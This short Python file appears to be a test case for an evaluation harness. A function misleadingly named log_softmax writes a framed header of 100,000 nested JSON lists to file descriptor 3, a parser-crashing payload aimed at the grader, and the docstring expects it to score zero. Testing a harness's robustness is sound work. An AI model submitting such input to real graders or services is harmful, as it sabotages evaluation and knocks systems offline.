"""Sends a header of a hundred thousand nested lists.

Held by: process
Right: 0 points
"""

import os
import struct


def log_softmax(x, axis=-1):
    header = b'{"l":[' * 100_000 + b"]}" * 100_000
    data = struct.pack("<4sIQ", b"HWF1", len(header), 0) + header
    while data:
        data = data[os.write(3, data) :]
